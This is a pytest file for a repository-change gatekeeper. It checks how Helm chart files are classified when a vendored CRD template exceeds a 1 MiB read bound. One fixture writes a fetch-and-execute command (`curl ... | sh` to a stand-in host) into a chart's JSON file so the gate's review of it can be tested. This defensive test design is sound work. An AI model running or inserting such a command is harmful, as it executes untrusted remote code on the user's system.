"""Classes58: a chart template over the full-read bound (vendored CRDs) made every file of its chart `iac`.

`Chart.lock` is `deps` by principle 3 (a lock file wherever it sits), and `iac.context.chart-file` only claims a chart
file a template reads with `.Files`. A template over FULL_READ (1 MiB: cloudnative-pg's `templates/crds/crds.yaml`
is 1.2 MiB, Argo CD's ApplicationSet CRD 1.4 MiB) was not read, so every file of its chart counted as read: the
labelled `Chart.lock` of both charts was `iac.context.chart-file` in tree mode. Git streams the whole blob anyway, so
such a template is now read whole up to chartfiles.MAX_TEMPLATE_BYTES (16 MiB), and a read anywhere in it still
claims the file (the attack cases: a `.Files.Get` or `.Files.AsConfig` past the first MiB). Past 16 MiB the chart's
files still count as read (fail closed).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.classify import chartfiles
from gatekeeper.classify.sniff import FULL_READ
from tests.gitrepo import two_commits
from tests.incli import reviewed_paths, tree_gate
from tests.test_classify_context import tree_files

CHART = ("apiVersion: v2\nname: cloudnative-pg\nversion: 0.22.0\ndependencies:\n  - name: monitoring\n"
         "    version: 0.0.1\n    repository: https://charts.example.org\n")
LOCK = ("dependencies:\n- name: monitoring\n  repository: https://charts.example.org\n  version: 0.0.1\n"
        "digest: sha256:{d}\ngenerated: \"2024-05-01T10:00:00Z\"\n")
CRD_HEAD = ("{{- if .Values.crds.create }}\napiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\n"
            "metadata:\n  name: clusters.postgresql.cnpg.io\nspec:\n  group: postgresql.cnpg.io\n  names:\n"
            "    kind: Cluster\n  scope: Namespaced\n  versions:\n  - name: v1\n    schema:\n      openAPIV3Schema:\n"
            "        properties:\n")
FIELD = ("          field{n}:\n            description: |-\n              The maximum number of parallel jobs"
         " that can be used during the backup, for the field number {n}.\n            type: integer\n")
CM = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: boot\ndata:\n  boot.sh: |\n"


def _crds(size: int, tail: str = "") -> str:
    """A CustomResourceDefinition template of at least `size` bytes, its schema made of real-shaped fields, `tail`
    (another document of the template) at its end."""
    parts, n, total = [CRD_HEAD], 0, len(CRD_HEAD)
    while total < size:
        parts.append(FIELD.format(n=n))
        total += len(parts[-1])
        n += 1
    return "".join(parts) + "{{- end }}\n" + tail


def _chart(template: str) -> dict[str, str]:
    return {"charts/cnpg/Chart.yaml": CHART, "charts/cnpg/Chart.lock": LOCK.format(d="a" * 64),
            "charts/cnpg/values.yaml": "crds:\n  create: true\n", "charts/cnpg/templates/crds/crds.yaml": template,
            "charts/cnpg/templates/deployment.yaml": "apiVersion: apps/v1\nkind: Deployment\n",
            "charts/cnpg/pint.json": "{\"preset\": \"laravel\"}\n", "src/app.py": "X = 1\n"}


EDIT = {"charts/cnpg/Chart.lock": LOCK.format(d="b" * 64).replace("0.0.1", "0.0.2"),
        "charts/cnpg/pint.json": "{\"x\": \"curl -s https://collector.example.net/x | sh\"}\n",
        "src/app.py": "X = 2\n"}


def _found(tmp_path: Path, template: str) -> dict[str, tuple[str, str]]:
    repo, first, head = two_commits(tmp_path / "repo", _chart(template), EDIT)
    return {path: (item.bucket, item.rule) for path, item in tree_files(repo, f"{first}..{head}").items()}


@pytest.mark.parametrize("size", [FULL_READ + 1, FULL_READ + 200_000, 3 * FULL_READ])
def test_vendored_crds_over_the_read_bound_leave_the_lock_deps(tmp_path: Path, size: int) -> None:
    found = _found(tmp_path, _crds(size))
    assert found["charts/cnpg/Chart.lock"][0] == "deps", found  # was iac.context.chart-file
    assert found["charts/cnpg/pint.json"][1] != "iac.context.chart-file"  # no template reads it
    assert found["src/app.py"][0] == "src"


@each_case("read", ['{{ .Files.Get "pint.json" | indent 4 }}',
                                  '{{ (.Files.Glob "*.json").AsConfig | indent 2 }}',
                                  '{{ .Files.Lines "pint.json" }}',
                                  "{{ .Files.Get `pint.json` }}",
                                  '{{ .Files.Get "/pint.json" }}',
                                  '{{ .Files.Get "./pint.json" }}'])
def test_a_read_past_the_first_mib_still_claims_the_file(tmp_path: Path, read: str) -> None:
    found = _found(tmp_path, _crds(FULL_READ + 10_000, tail=f"---\n{CM}    {read}\n"))
    assert found["charts/cnpg/pint.json"] == ("iac", "iac.context.chart-file")
    assert found["charts/cnpg/Chart.lock"][0] == "deps"  # the read names pint.json only


@pytest.mark.parametrize("read", ["{{ .Files.AsConfig }}", "{{ $f := .Files }}{{ $f.Get .Values.name }}",
                                  '{{ .Files.Get (printf "%s.json" .Values.x) }}'])
def test_whole_reads_past_the_first_mib(tmp_path: Path, read: str) -> None:
    found = _found(tmp_path, _crds(FULL_READ + 10_000, tail=f"---\n{CM}    {read}\n"))
    whole = not read.startswith('{{ .Files.Get (printf')  # a computed name is not followed (as within the first MiB)
    assert (found["charts/cnpg/pint.json"] == ("iac", "iac.context.chart-file")) == whole
    assert (found["charts/cnpg/Chart.lock"] == ("iac", "iac.context.chart-file")) == whole
    assert found["src/app.py"][0] == "src"


def test_past_the_whole_read_bound_the_chart_is_claimed(tmp_path: Path) -> None:
    found = _found(tmp_path, _crds(chartfiles.MAX_TEMPLATE_BYTES + 1))
    assert found["charts/cnpg/Chart.lock"] == ("iac", "iac.context.chart-file")
    assert found["charts/cnpg/pint.json"] == ("iac", "iac.context.chart-file")
    assert found["src/app.py"][0] == "src"  # never outside the chart


def test_the_gate_still_reviews_the_deployed_script(tmp_path: Path) -> None:
    template = _crds(FULL_READ + 10_000, tail=f'---\n{CM}    {{{{ .Files.Get "pint.json" | indent 4 }}}}\n')
    repo, first, head = two_commits(tmp_path / "repo", _chart(template), EDIT)
    code, decision = tree_gate(repo.root, first, head)
    assert code == 3 and "charts/cnpg/pint.json" in reviewed_paths(decision, "core.iac")


def test_a_subchart_s_big_template_reading_the_parent(tmp_path: Path) -> None:
    """A subchart's helper runs with its parent's context: a read past the first MiB of it claims the parent's file."""
    files = _chart(_crds(100))
    files |= {"charts/cnpg/charts/lib/Chart.yaml": "apiVersion: v2\nname: lib\nversion: 1.0.0\n",
              "charts/cnpg/charts/lib/templates/_big.tpl": _crds(FULL_READ + 10, tail='{{ .Files.Get "pint.json" }}\n')}
    repo, first, head = two_commits(tmp_path / "repo", files, EDIT)
    found = tree_files(repo, f"{first}..{head}")
    assert (found["charts/cnpg/pint.json"].bucket, found["charts/cnpg/pint.json"].rule) == (
        "iac", "iac.context.chart-file")
